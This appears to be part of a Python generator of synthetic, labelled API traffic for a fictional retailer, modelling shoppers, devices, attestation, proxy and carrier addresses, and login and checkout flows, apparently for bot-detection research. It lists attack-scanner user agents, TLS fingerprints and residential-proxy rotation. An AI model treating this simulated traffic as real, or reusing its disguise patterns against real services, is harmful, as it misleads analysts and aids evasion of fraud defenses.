#!/usr/bin/env python3
"""Labelled traffic of an omnichannel retailer's API.  retail.py SEED OUTDIR"""
import sys, os, json, math, random, hashlib, datetime as dt

SEED, OUT = int(sys.argv[1]), sys.argv[2]
R = random.Random(SEED * 7919 + 13)
rnd, ri, ch, exp = R.random, R.randint, R.choice, R.expovariate
def hexs(n): return '%0*x' % (n, R.getrandbits(4 * n))
def logn(med, sig=0.8): return med * math.exp(R.gauss(0, sig))
def wch(d): return R.choices(list(d), list(d.values()))[0]

# ---------------------------------------------------------------- world
W = dict(
    days=ri(2, 4), target=ri(74000, 91000), users=ri(900, 2100),
    app_share=R.uniform(.5, .72), ios=R.uniform(.35, .6), attest=R.uniform(.63, .77),
    flash=rnd() < .55, release=rnd() < .6, outage=rnd() < .65,
    geo=rnd() < .75, ja4=rnd() < .5, subject=rnd() < .75, preflight=rnd() < .5, dur=rnd() < .85,
    gc_in_path=rnd() < .5, bola_open=rnd() < .6, market=ch(['GB', 'DE', 'US']),
    scale=R.uniform(.38, .55))
START = dt.datetime(2026, 6, ri(12, 16), tzinfo=dt.timezone.utc)
T0 = START.timestamp(); DAY = 86400.; T1 = T0 + W['days'] * DAY
TZ = {'GB': 1, 'DE': 2, 'US': -5}[W['market']]
HOST = 'api.marlowandfinch.example'
NODES = [0, .12, -.31, .04]
FLASH_T = T0 + (ri(1, W['days'] - 1)) * DAY + (ri(10, 20) - TZ) * 3600 if W['flash'] else None
RELEASE_T = T0 + (1 if W['days'] < 3 else ri(1, 2)) * DAY - TZ * 3600 + 9 * 3600 if W['release'] else None
OUTAGE = None
if W['outage']:
    o = T0 + R.uniform(.4, W['days'] - .2) * DAY; OUTAGE = (o, o + ri(8, 30) * 60)

SKUS = ['P%07d' % x for x in sorted(R.sample(range(1200000, 1290000), 3500))]
ZW = [1 / (i + 3) ** .75 for i in range(len(SKUS))]; _sh = SKUS[:]; R.shuffle(_sh)
_skbuf = []
def sku():
    global _skbuf
    if not _skbuf: _skbuf = R.choices(_sh, ZW, k=5000)
    return _skbuf.pop()
SALE_SKU = ch(SKUS); DROP_SKU = ch(SKUS)
CATS = ['women', 'men', 'kids', 'shoes', 'bags', 'home', 'beauty', 'outlet', 'new-in', 'sport', 'dresses', 'denim', 'coats', 'knitwear', 'kitchen', 'bedding', 'toys', 'garden', 'lighting', 'jewellery']
WORDS = 'dress linen shirt trainers boots jacket jeans blue black green lamp towel set cushion kids raincoat bag leather wool socks skirt summer white sandal belt mug plate duvet chair desk watch ring scarf hat'.split()
NAMES = 'anna ben carla david ella frank gina henry ines jack kara liam mia noah olga paul rosa sam tina uwe vera will yara zoe lena max nina tom eva luke amy joe kim lee ana dan sue ian'.split()
SURN = 'smith jones mueller schmidt brown taylor weber wilson fischer evans meyer clark lewis walker hall young king wright lopez hill green baker nelson carter'.split()
MAILS = ['gmail.com'] * 5 + ['outlook.com', 'yahoo.com', 'icloud.com', 'icloud.com', 'gmx.de', 'hotmail.com']
def email():
    s = ch(['', '.', '_', '']).join([ch(NAMES), ch(SURN)]) + ch(['', '', str(ri(1, 99)), str(ri(1960, 2005))])
    return s + '@' + ch(MAILS)
STORES = ['%03d' % x for x in R.sample(range(101, 480), 60)]
OBASE, ORATE = ri(38000000, 61000000), ri(900, 2500)
def oid(t): return str(OBASE + int((t - T0) / DAY * ORATE) + ri(0, 2))

# ---------------------------------------------------------------- addresses
FIX = {'GB': [(2856, '86.%d', 128, 191, '2a00:23c4'), (5607, '90.%d', 192, 223, '2a02:c7c'), (5089, '82.%d', 0, 47, None), (13285, '92.%d', 0, 31, None)],
       'DE': [(3320, '87.%d', 128, 191, '2003:e0'), (3209, '88.%d', 64, 79, '2a02:8070'), (6830, '95.%d', 88, 91, '2a02:908'), (8881, '94.%d', 134, 135, None)],
       'US': [(7922, '73.%d', 0, 251, '2601:147'), (7018, '99.%d', 0, 127, '2600:1700'), (701, '71.%d', 160, 191, None), (20115, '97.%d', 80, 99, '2603:8080')],
       'FR': [(3215, '90.%d', 0, 127, '2a01:cb00'), (12322, '82.%d', 64, 67, '2a01:e0a')], 'NL': [(1136, '77.%d', 160, 175, '2a02:a440')],
       'ES': [(3352, '83.%d', 32, 63, None)], 'IT': [(3269, '79.%d', 0, 60, None)],
       'BR': [(28573, '177.%d', 32, 103, '2804:14c')], 'ID': [(7713, '36.%d', 64, 95, None)], 'VN': [(45899, '113.%d', 160, 191, None)],
       'IN': [(24560, '122.%d', 160, 187, None)], 'TR': [(9121, '78.%d', 160, 191, None)], 'PL': [(5617, '83.%d', 0, 31, None)], 'GR': [(6799, '79.%d', 128, 131, None)]}
MOB = {'GB': [(12576, '31.94', '2a01:4c8'), (25135, '92.40', None), (35228, '82.132', '2a02:3032')],
       'DE': [(3320, '80.187', '2a01:598'), (6805, '176.1', '2a02:3037'), (3209, '109.40', None)],
       'US': [(21928, '172.58', '2607:fb90'), (20057, '166.137', '2600:380'), (6167, '174.192', '2600:1012')]}
for c in FIX: MOB.setdefault(c, [(64000 + len(MOB), '%d.%d' % (ri(101, 117), ri(0, 255)), None)])
DC = [(16509, '18.195', 'DE'), (16509, '3.8', 'GB'), (24940, '95.216', 'FI'), (24940, '65.108', 'FI'), (16276, '51.68', 'FR'), (14061, '159.65', 'NL'),
      (14061, '167.71', 'US'), (9009, '146.70', 'RO'), (396982, '34.89', 'DE'), (20473, '45.76', 'US'), (49505, '185.143', 'RU'), (210644, '193.233', 'NL')]
CG = {}   # carrier NAT pools: a few egress addresses each
for c, l in MOB.items():
    for asn, p, v6 in l:
        b = [ri(0, 255) for _ in range(3)]
        CG[asn, p] = ['%s.%d.%d' % (p, ch(b), ri(1, 254)) for _ in range(ri(6, 18))]
def N_(ip, asn, cc): return {'client.address': ip, 'network.asn': asn, 'geo.country': cc}
def v6(pref):
    g = pref.count(':') + 1
    return pref + ''.join(':%x' % R.getrandbits(16) for _ in range(4 - g))
def v6host(p64): return p64 + ''.join(':%x' % ri(1, 65535) for _ in range(4))
POOL24 = {}
def fixed(cc):
    """a household: a function that gives its address now"""
    asn, p, lo, hi, six = ch(FIX[cc])
    if six and rnd() < .45:
        p64 = v6(six); return lambda: N_(v6host(p64), asn, cc)
    pools = POOL24.setdefault((asn), [])
    if len(pools) < 40 or rnd() < .3: pools.append('%s.%d' % (p % ri(lo, hi), ri(0, 255)))
    a = '%s.%d' % (ch(pools), ri(1, 254)); return lambda: N_(a, asn, cc)
def mobile(cc):
    asn, p, six = ch(MOB[cc])
    def visit():
        if six and rnd() < .6: return N_(v6host(v6(six)), asn, cc)
        return N_(ch(CG[asn, p]), asn, cc)
    return visit
def dcip(i=None):
    asn, p, cc = DC[i] if i is not None else ch(DC)
    a = '%s.%d.%d' % (p, ri(0, 255), ri(1, 254)); return lambda: N_(a, asn, cc)
HOMES = []
def resi(local=.6):
    """one exit of a residential proxy network; a few exits are homes of customers, or carrier NATs"""
    if rnd() < .08 and HOMES: return ch(HOMES)()
    cc = W['market'] if rnd() < local else ch(list(FIX))
    return mobile(cc)() if rnd() < .25 else fixed(cc)()

# ---------------------------------------------------------------- software
IOSV = ['5.9.0', '5.10.2', '5.11.0', '5.12.0', '5.12.1']; OLDV = ['4.18.3', '4.20.0', '4.21.1', '4.22.0']
NEWV = '5.13.0'
IPH = ['iPhone13,2', 'iPhone14,5', 'iPhone14,7', 'iPhone15,2', 'iPhone15,4', 'iPhone16,1', 'iPhone17,3', 'iPhone17,1', 'iPhone12,8', 'iPad13,18']
AND = [('SM-S911B', 15), ('SM-S921B', 16), ('SM-A546B', 15), ('SM-A145R', 14), ('Pixel 7', 16), ('Pixel 8a', 16), ('SM-G991B', 14), ('M2101K6G', 13), ('2201117TY', 13), ('CPH2409', 14), ('XQ-CC54', 14), ('SM-S931B', 16), ('moto g54 5G', 15)]
def ua_ios(v, m, o): return 'MarlowFinch/%s (%s; iOS %s; Scale/3.00) CFNetwork/%s Darwin/%s' % (v, m, o, '3826.500.111' if o > '26' else '1568.300.101', '25.4.0' if o > '26' else '24.2.0')
def ua_and(v, m): return 'MarlowFinch-Android/%s (%s; Android %d) okhttp/%s' % (v, m[0], m[1], '4.12.0' if v[0] == '5' else '4.9.3')
def ua_web():
    k = wch(dict(cw=34, cm=12, ca=18, si=22, sm=7, ff=6, ed=9)); c = ch([146, 147, 148, 148, 148, 149])
    return {'cw': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36' % c,
            'cm': 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36' % c,
            'ca': 'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Mobile Safari/537.36' % c,
            'si': 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.%d Mobile/15E148 Safari/604.1' % ri(1, 4),
            'sm': 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.%d Safari/605.1.15' % ri(0, 4),
            'ff': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:%d.0) Gecko/20100101 Firefox/%d.0' % ((ri(148, 151),) * 2),
            'ed': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36 Edg/%d.0.0.0' % (c, c)}[k]
TOOLS = {'requests': 'python-requests/2.32.3', 'aiohttp': 'Python/3.11 aiohttp/3.9.5', 'go': 'Go-http-client/2.0', 'curl': 'curl/8.5.0', 'axios': 'axios/1.7.2',
         'scrapy': 'Scrapy/2.11.2 (+https://scrapy.org)', 'okhttp': 'okhttp/4.12.0', 'postman': 'PostmanRuntime/7.39.0',
         'headless': 'Mozilla/5.0 (X11; Linux x64_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36'.replace('x64_64', 'x86_64'),
         'nuclei': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/113.0.0.0 Safari/537.36',
         'ffuf': 'Fuzz Faster U Fool v2.1.0-dev', 'sqlmap': 'sqlmap/1.8.5#stable (https://sqlmap.org)'}
def ja4_of(ua):
    if 'CFNetwork' in ua: return 't13d2014h2_a09f3c656075_14788d8d241b'
    if 'okhttp' in ua: return 't13d1613h2_46e7e9700bed_eca864cca44a'
    if 'Firefox' in ua: return 't13d1715h2_5b57614c22b0_3d5424432f57'
    if 'Chrome' in ua and 'Headless' not in ua: return 't13d1516h2_8daaf6152771_d8a2da3f94cd'
    if 'Safari' in ua and 'Headless' not in ua: return 't13d2014h2_a09f3c656075_e42f34c56612'
    if 'ython' in ua: return 't13d1812h1_85036bcba153_375ca2c5e164'
    if 'Go-http' in ua or 'Fuzz' in ua: return 't13d1311h2_f57a46bbacb6_ab7e3b40a677'
    return 't13d3112h2_e8f1e7e78f70_b26ce05bbdd6'

# ---------------------------------------------------------------- events
EV = []; TAKEN = {}   # user id -> time of takeover
class Att:
    """attestation of one installation. modes: genuine, failed, missing, none"""
    def __init__(s, mode, flaky=None):
        s.mode, s.tok, s.exp = mode, None, 0
        s.flaky = flaky if flaky is not None else ch([.003] * 5 + [.012, .012, .05])
    def get(s, t, bg=False):
        m = s.mode
        if m in ('none', 'missing'): return {'attestation.status': m}
        if t > s.exp:
            if OUTAGE and OUTAGE[0] < t < OUTAGE[1]: return {'attestation.status': 'missing'}
            if s.tok and t < s.exp + 90 and rnd() < .4: return s.out('expired')
            if rnd() < s.flaky * (6 if bg else 3): return {'attestation.status': 'missing'}
            s.tok, s.exp = hexs(24), t + 300
        elif rnd() < s.flaky * .15: return {'attestation.status': 'missing'}
        return s.out(m)
    def out(s, m): return {'attestation.status': m, 'attestation.issuer': 'app', 'attestation.token': s.tok}

SIZE = {'categories': 18000, 'search': 14000, 'products': 6000, 'home': 22000, 'feeds': 30000, 'orders': 4000, 'config': 3000, 'suggest': 700, 'me': 900, 'cart': 2500}
class A:
    """an actor: who it is, with which software, from where"""
    def __init__(s, caller, kind, plat, ua, key=None, ver=None, dev=None, att=None, user=None, inst='', net=None, sess=None):
        s.caller, s.kind, s.plat, s.ua, s.key, s.ver, s.dev = caller, kind, plat, ua, key, ver, dev
        s.att, s.user, s.inst, s.net, s.sess = att or Att('none'), user, inst, net, sess
        s.seen = set(); s.bg = False; s.pre = False; s.mail = None
    def ev(s, t, m, path, st, q=None, sub=None, anon=False, nosess=False):
        if not T0 <= t < T1 - 1: return st
        n = s.net() if callable(s.net) else s.net
        if s.pre and W['preflight'] and m != 'OPTIONS':
            k = (m, path)
            if k not in s.seen and (m != 'GET' or len(s.seen) < 4):
                EV.append(s.rec(t - R.uniform(.02, .09), n, 'OPTIONS', path, 204, None, None, True, True, True))
            s.seen.add(k)
        EV.append(s.rec(t, n, m, path, st, q, sub, anon, nosess, False)); return st
    def rec(s, t, n, m, path, st, q, sub, anon, nosess, pre):
        e = {'time': int((t + NODES[(sum(map(ord, n['client.address'])) + int(t / 90)) % 4]) * 1000),
             'http.request.method': m, 'url.path': path, 'http.response.status_code': st, 'server.address': HOST, 'client.address': n['client.address']}
        if W['geo']: e['geo.country'] = n['geo.country']; e['network.asn'] = n['network.asn']
        if q: e['url.query'] = q
        if s.ua: e['user_agent.original'] = s.ua
        if W['ja4']: e['tls.client.ja4'] = getattr(s, 'ja4', None) or ja4_of(s.ua or '')
        if not pre:
            if s.key: e['api.client'] = s.key
            if s.user and not anon: e['user.id'] = s.user
            if s.sess and not nosess: e['session.id'] = s.sess
            if s.dev: e['device.id'] = s.dev
            if s.ver: e['app.version'] = s.ver
            if sub and W['subject']: e['login.subject'] = sub
            e.update(s.att.get(t, s.bg))
        else: e['attestation.status'] = 'none'
        parts = path.split('/')
        b = next((SIZE[p] for p in reversed(parts) if p in SIZE), 500)
        e['http.response.size'] = int(logn(b, .35)) if st < 300 and m != 'OPTIONS' and st != 204 else ri(0, 0) if st in (204, 304) else ri(90, 320)
        if m in ('POST', 'PUT', 'PATCH'): e['http.request.size'] = int(logn(260, .4))
        if W['dur']: e['http.server.request.duration'] = round(min(30, logn(.25 if 'search' in path or 'payment' in path or 'login' in path else .045, .5)) if st != 504 else 30, 4)
        e['_l'] = (s.kind, s.inst, s.caller, s.plat)
        return e
    # a screen: several calls nearly at once, then thinking
    def scr(s, t, calls, think=8):
        u = t
        for c in calls:
            m, p, st = c[:3]; q = c[3] if len(c) > 3 else None
            if st < 400 and rnd() < .0025:
                s.ev(u, m, p, ch([500, 502, 503, 504]), q); u += R.uniform(.4, 2.5)
                if m != 'GET' and rnd() < .5: return u + think
            s.ev(u, m, p, st, q)
            u += R.uniform(.008, .14) if rnd() < .8 else R.uniform(.15, .8)
        return u + (logn(think, .85) if think else 0)

def q_search(w=None): return 'q=%s&page=%d' % (w or '+'.join(R.sample(WORDS, ri(1, 2))), 1)
def product(a, t, s=None, think=14):
    s = s or sku(); gone = rnd() < .008; p = '/v2/products/' + s
    if gone: return a.scr(t, [('GET', p, 404)], 4)
    c = [('GET', p, 304 if a.plat == 'web' and rnd() < .06 else 200)]
    if rnd() < .75: c.append(('GET', p + '/stock', 200, 'store=' + ch(STORES)))
    if rnd() < .65: c.append(('GET', p + '/recommendations', 200))
    if rnd() < .35: c.append(('GET', p + '/reviews', 200, 'page=1'))
    return a.scr(t, c, think)
def category(a, t):
    c = ch(CATS)
    for pg in range(1, 2 + int(exp(.9))):
        t = a.scr(t, [('GET', '/v2/categories/%s/products' % c, 200, 'page=%d&sort=%s' % (pg, ch(['rank', 'rank', 'price', 'new'])))], 9)
    return t
def search(a, t):
    w = ch(WORDS)
    for i in range(2, min(len(w), ri(3, 6)) + 1):
        a.ev(t, 'GET', '/v2/search/suggest', 200, 'q=' + w[:i]); t += R.uniform(.2, .7)
    t = a.scr(t, [('GET', '/v2/search', 200, q_search(w))], 9)
    if rnd() < .2: t = a.scr(t, [('GET', '/v2/search', 200, 'q=%s&page=2' % w)], 7)
    return t
def add_cart(a, t):
    return a.scr(t, [('POST', '/v2/cart/items', 201 if rnd() < .97 else 409), ('GET', '/v2/cart', 200)], 7)
def cart(a, t):
    t = a.scr(t, [('GET', '/v2/cart', 200), ('GET', '/v2/cart/shipping-options', 200)], 9)
    if rnd() < .3: t = a.scr(t, [(ch(['PATCH', 'DELETE']), '/v2/cart/items/%d' % ri(1, 4), 200), ('GET', '/v2/cart', 200)], 6)
    if rnd() < .18:
        for _ in range(ri(1, 3)): t = a.scr(t, [('POST', '/v2/cart/coupons', ch([200, 422, 422]))], 10)
    return t
def checkout(a, t, st=None):
    cid = hexs(12)
    t = a.scr(t, [('POST', '/v2/checkout', 201), ('GET', '/v2/me/addresses', 200 if a.user else 401), ('GET', '/v2/me/payment-methods', 200 if a.user else 401)] if a.user else [('POST', '/v2/checkout', 201)], 25)
    t = a.scr(t, [('PUT', '/v2/checkout/%s/shipping' % cid, 200)], 15)
    while True:
        ok = rnd() > .08
        t = a.scr(t, [('POST', '/v2/checkout/%s/payment' % cid, 200 if ok else 402)], 6 if ok else 25)
        if ok or rnd() < .4: break
    if ok:
        o = oid(t); t = a.scr(t, [('POST', '/v2/orders', 201), ('GET', '/v2/orders/' + o, 200)], 10)
        if st is not None: st['orders'].append(o)
    return t
def orders(a, t, st):
    if not a.user: return t
    t = a.scr(t, [('GET', '/v2/orders', 200, 'page=1')], 6)
    for o in R.sample(st['orders'], min(len(st['orders']), ri(1, 2))):
        c = [('GET', '/v2/orders/' + o, 200)]
        if rnd() < .6: c.append(('GET', '/v2/orders/%s/tracking' % o, 200 if rnd() < .95 else 404))
        if rnd() < .07: c.append(('GET', '/v2/orders/%s/invoice' % o, 200))
        t = a.scr(t, c, 9)
        if rnd() < .04: t = a.scr(t, [('POST', '/v2/orders/%s/returns' % o, 201)], 10)
    return t
def account(a, t, st):
    if not a.user: return t
    c = [('GET', '/v2/me', 200), ('GET', '/v2/loyalty', 200)]
    if rnd() < .3: c.append(('GET', '/v2/me/addresses', 200))
    t = a.scr(t, c, 9)
    if rnd() < .06: t = a.scr(t, [('PATCH', '/v2/me', 200)], 6)
    if rnd() < .06: t = a.scr(t, [('POST', '/v2/me/addresses', 201 if rnd() < .85 else 422)], 6)
    if rnd() < .05: t = a.scr(t, [('POST', '/v2/loyalty/redeem', 200)], 6)
    return t
def gc(a, t, st, anon=False):
    if W['gc_in_path']: a.ev(t, 'GET', '/v2/giftcards/%s/balance' % ''.join(str(ri(0, 9)) for _ in range(16)), st)
    else: a.ev(t, 'POST', '/v2/giftcards/balance', st)
def giftcard(a, t, n=None):
    for i in range(n or ch([1, 1, 1, 2, 3])):
        if rnd() < .25: gc(a, t, ch([404, 422])); t += logn(14, .5)
        gc(a, t, 200); t += logn(20, .6)
    return t
def stores(a, t):
    t = a.scr(t, [('GET', '/v2/stores', 200, 'lat=%.2f&lon=%.2f' % (R.uniform(48, 54), R.uniform(-1, 12)))], 8)
    return a.scr(t, [('GET', '/v2/stores/' + ch(STORES), 200)], 8)
def wish(a, t):
    if not a.user: return t
    return a.scr(t, [('GET', '/v2/me/wishlist', 200)] if rnd() < .5 else [('PUT', '/v2/me/wishlist/' + sku(), 204)], 6)
def login(a, t, mail, fails=None):
    """sign-in with typos; the access token is there only afterwards"""
    f = fails if fails is not None else (0 if rnd() < .86 else ch([1, 1, 1, 2, 2, 3, 4]))
    u, a.user = a.user, None
    for i in range(f):
        a.ev(t, 'POST', '/v2/auth/login', 401, sub=mail if rnd() < .8 else mail.replace('.', '', 1)); t += logn(9, .5)
    if f >= 3:
        a.ev(t, 'POST', '/v2/auth/password/forgot', 202, sub=mail); t += logn(70, .4)
        a.ev(t, 'POST', '/v2/auth/password/reset', 200 if rnd() < .9 else 400); t += 3
    a.ev(t, 'POST', '/v2/auth/login', 200, sub=mail); t += .3
    if rnd() < .08:
        t += logn(14, .4)
        if rnd() < .2: a.ev(t, 'POST', '/v2/auth/otp/verify', 401, sub=mail); t += logn(10, .4)
        a.ev(t, 'POST', '/v2/auth/otp/verify', 200, sub=mail); t += .4
    a.user = u; return t

def visit(a, t, st, n=None, mail=None):
    """one visit of an honest shopper (also used by those who imitate one); n screens"""
    end = t; a.sess = hexs(20) if a.plat == 'web' or st.get('appsess', True) else None
    app = a.plat in ('ios', 'android')
    if app:
        home = '/v2/home/feed' if a.ver == NEWV else '/v2/home'
        cold = rnd() < .7
        if a.user and t - st.get('refreshed', 0) > 1800:
            if st.get('signedout') or rnd() < .015:
                t = a.scr(t, [('GET', '/v2/config', 200)], 2); t = login(a, t, st['mail']); st['signedout'] = False
            else:
                if rnd() < .3:
                    for p in ['/v2/me', '/v2/cart', home][:ri(1, 3)]: a.ev(t, 'GET', p, 401, anon=True); t += R.uniform(.01, .1)
                a.ev(t, 'POST', '/v2/auth/refresh', 200, anon=True); t += R.uniform(.1, .4)
            st['refreshed'] = t
        c = ([('GET', '/v2/config', 200 if rnd() < .5 else 304)] if cold else []) + [('GET', home, 200), ('GET', '/v2/cart', 200)]
        if a.user: c += [('GET', '/v2/me', 200), ('GET', '/v2/notifications/unread', 200)]
        if rnd() < .06: c.append(('POST', '/v2/devices', 201))
        t = a.scr(t, c, 6)
    else:
        c = [('GET', '/v2/config', 200), ('GET', '/v2/cart', 200)]
        if rnd() < .5: c.insert(1, ('GET', '/v2/home', 200))
        if a.user and (st.get('signedout') or rnd() < .22):
            u, a.user = a.user, None; t = a.scr(t, c, 7); a.user = u
            t = login(a, t, st['mail']); st['signedout'] = False
            c = [('GET', '/v2/me', 200)]
        elif a.user:
            if rnd() < .5: c.insert(0, ('POST', '/v2/auth/refresh', 200))
            c.append(('GET', '/v2/me', 200))
        t = a.scr(t, c, 6)
    n = n or 1 + int(exp(1 / st.get('len', 6.)))
    has = False; last = t; w = dict(category=20, search=17, product=36, cart=6, orders=8, account=4, stores=3, wish=5, giftcard=.7)
    w.update(st.get('mix', {}))
    for i in range(n):
        k = wch(w)
        if k == 'product':
            t = product(a, t)
            if rnd() < .2: t = add_cart(a, t); has = True
        elif k == 'cart': t = cart(a, t)
        elif k == 'orders': t = orders(a, t, st)
        elif k == 'account': t = account(a, t, st)
        else: t = {'category': category, 'search': search, 'stores': stores, 'wish': wish, 'giftcard': giftcard}[k](a, t)
        if app and a.user and t - last > 60: a.ev(t, 'GET', '/v2/notifications/unread', 200); last = t
        if rnd() < .1: a.ev(t, 'POST', '/v2/telemetry', 202); t += .05
        if rnd() < .02: t += R.uniform(60, 400)        # put the phone down
        if app and rnd() < .015 and st.get('place'): a.net = st['place'](t)   # wifi to mobile
    if has and rnd() < .45:
        t = checkout(a, cart(a, t), st)
        if rnd() < .25:
            for _ in range(ri(2, 5)): t = a.scr(t, [('GET', '/v2/orders/%s/tracking' % st['orders'][-1], 200)], 20) if st['orders'] and a.user else t
    if a.user and rnd() < .012: a.ev(t, 'POST', '/v2/auth/logout', 204); st['signedout'] = True
    return t

# ---------------------------------------------------------------- shoppers
HOURS = [1, .6, .4, .3, .35, .7, 1.6, 2.8, 3.4, 3.4, 3.6, 3.9, 4.6, 4.5, 3.9, 3.7, 4, 4.6, 5.2, 6, 7, 7.3, 5.4, 2.6]
def when(h=HOURS):
    return T0 + (R.choices(range(24), h)[0] - TZ) % 24 * 3600 + rnd() * 3600 + ri(0, W['days'] - 1) * DAY
def app_actor(caller, kind, plat, att, ver=None, model=None, inst='', user=None):
    old = att == 'none'
    ver = ver or (ch(OLDV) if old else R.choices(IOSV, [1, 2, 3, 5, 9])[0])
    os_ = ch(['18.5', '18.7', '26.3', '26.4', '26.4'])
    model = model or (ch(IPH) if plat == 'ios' else ch(AND))
    a = A(caller, kind, plat, ua_ios(ver, model, os_) if plat == 'ios' else ua_and(ver, model), ('ios-' if plat == 'ios' else 'android-') + ('v4' if ver[0] == '4' else 'v5'),
          ver, hexs(32).upper() if plat == 'ios' else hexs(16), Att(att), user, inst)
    a.model, a.os = model, os_; return a
def web_actor(caller, kind, ua=None, user=None, inst=''):
    a = A(caller, kind, 'web', ua or ua_web(), 'web-spa', None, None, None, user, inst); a.pre = True; return a
def setver(a, v):
    a.ua = ua_ios(v, a.model, a.os) if a.plat == 'ios' else ua_and(v, a.model); a.ver = v

U = []; CC = W['market']
OFFICES = []
for _ in range(ri(10, 22)):
    asn, p, lo, hi, _6 = ch(FIX[CC]); b = '%s.%d' % (p % ri(lo, hi), ri(0, 255))
    OFFICES.append([N_('%s.%d' % (b, ri(1, 254)), asn, CC) for _ in range(ch([1, 1, 2, 3]))])
VPN = [dcip(ch([4, 5, 7]))() for _ in range(14)]; RELAY = [N_('104.28.%d.%d' % (ri(30, 60), ri(1, 254)), 13335, CC) for _ in range(40)]
def make_user(i):
    uid = 'c%d' % ri(1000000, 9999999); caller = 'shopper-%d' % i
    home_cc = CC if rnd() < .93 else ch(['FR', 'NL', 'ES', 'IT', 'PL'])
    home, mob = fixed(home_cc), mobile(home_cc); office = ch(OFFICES) if rnd() < .22 else None
    if i % 3 == 0: HOMES.append(home)
    if U and rnd() < .12: home = U[-1]['home']     # a household
    st = dict(mail=email(), orders=[oid(T0 - R.uniform(0, 60) * DAY) for _ in range(ri(1, 5))], len=logn(3.8, .45), w=logn(1, .7))
    app = rnd() < W['app_share']; signed = rnd() < (.86 if app else .45); vpn = ch(VPN) if rnd() < .03 else None
    plat = ('ios' if rnd() < W['ios'] else 'android') if app else 'web'
    kind = 'app-user' if app else 'web-user' if signed else 'web-guest'
    u = dict(st=st, home=home, uid=uid if signed else None, plat=plat, t=0, caller=caller, kind=kind)
    if app:
        r = rnd(); mode = 'none' if rnd() > W['attest'] else 'genuine'
        if mode == 'genuine' and r < (.004 if plat == 'ios' else .016): mode = 'failed'; u['kind'] = 'rooted-phone-owner'
        u['a'] = app_actor(caller, u['kind'], plat, mode, user=u['uid'])
        u['upd'] = RELEASE_T + exp(1 / (1.2 * DAY)) if RELEASE_T and mode != 'none' and rnd() < .7 else None
        if rnd() < .1: u['web'] = web_actor(caller, 'app-user', user=u['uid'])     # the same person in a browser too
    else: u['a'] = web_actor(caller, kind, user=u['uid'])
    relay = plat == 'web' and 'Safari' in u['a'].ua and 'Chrome' not in u['a'].ua and rnd() < .3
    st['trip'] = (T0 + R.uniform(.3, W['days']) * DAY, ch(['ES', 'IT', 'GR', 'FR', 'TR'])) if rnd() < .015 else None
    if st['trip']: u['kind'] = u['a'].kind = 'traveller'; tr_home, tr_mob = fixed(st['trip'][1]), mobile(st['trip'][1])
    def place(t):
        if vpn: return vpn
        if st['trip'] and t > st['trip'][0]: return (tr_home if rnd() < .6 else mob if rnd() < .6 else tr_mob)()
        h = (t / 3600 + TZ) % 24
        if relay and rnd() < .8: return ch(RELAY)
        if office and 8.5 < h < 17.5 and rnd() < .75: return ch(office)
        if plat != 'web' and rnd() < (.5 if 7 < h < 19 else .2): return mob()
        return home()
    st['place'] = place
    r = rnd()
    if signed:
        if r < .012: u['kind'] = 'deal-hunter'; st['mix'] = dict(product=80, search=30); st['len'] = 20; st['w'] *= 1.5
        elif r < .018: u['kind'] = 'coupon-trier'; st['special'] = 'coupon'
        elif r < .026: u['kind'] = 'parcel-watcher'; st['special'] = 'track'
        elif r < .032: u['kind'] = 'gift-card-holder'; st['special'] = 'gc'
        elif r < .042 and app: u['kind'] = 'new-phone'; st['newphone'] = T0 + R.uniform(.3, W['days'] - .2) * DAY
        elif r < .052: u['kind'] = 'password-forgetter'; st['forget'] = True; st['signedout'] = True
        elif r < .056: u['kind'] = 'business-buyer'; st['mix'] = dict(product=50, cart=20, orders=40); st['len'] = 18
    u['a'].kind = u['kind']; return u
for i in range(W['users']): U.append(make_user(i))
COMP = [N_('185.%d.%d.%d' % (ri(10, 60), ri(0, 255), x), 201234, CC) for x in (10, 11)]     # head office of the retailer

def special(u, a, t):
    st = u['st']
    if st.get('special') == 'coupon' and rnd() < .7:
        for _ in range(ri(4, 12)): a.ev(t, 'POST', '/v2/cart/coupons', 422 if rnd() < .92 else 200); t += logn(8, .5)
    elif st.get('special') == 'track':
        o = ch(st['orders'])
        for _ in range(ri(8, 40)): t = a.scr(t, [('GET', '/v2/orders/%s/tracking' % o, 200)], 45)
    elif st.get('special') == 'gc': t = giftcard(a, t, ri(3, 9))
    return t
def human(u, t, flash=False):
    if t < u['t'] + 120: return
    st = u['st']; a = u['a']
    if u.get('web') and rnd() < .35: a = u['web']
    if u.get('upd') and t > u['upd'] and a is u['a'] and a.ver != NEWV:
        setver(a, NEWV); a.net = st['place'](t); a.ev(t - 2, 'POST', '/v2/devices', 201)
    if st.get('newphone') and t > st['newphone'] and a is u['a']:
        st['newphone'] = None; b = app_actor(u['caller'], u['kind'], a.plat if rnd() < .8 else ch(['ios', 'android']), 'genuine', user=u['uid'])
        u['a'] = a = b; st['signedout'] = True; st['refreshed'] = 0
    if st.get('forget') and rnd() < .5: st['signedout'] = True
    if not (t0 := st['place'](t)): return
    a.net = t0
    if st.get('forget') and st.get('signedout') and a.user: t = login(a, t, st['mail'], ri(2, 6)); st['signedout'] = False
    if flash:
        t = visit(a, t, dict(st, len=1), 1); p = '/v2/products/' + SALE_SKU
        for _ in range(ri(2, 16)):       # refresh until it opens
            st_ = 200 if rnd() < .93 else ch([429, 503, 503])
            t = a.scr(t, [('GET', p, st_), ('GET', p + '/stock', st_)][:ri(1, 2)], 6)
        t = a.scr(t, [('POST', '/v2/cart/items', ch([201, 201, 409, 409, 429]))], 3)
        if rnd() < .45: t = checkout(a, t, st)
    else: t = visit(a, t, st)
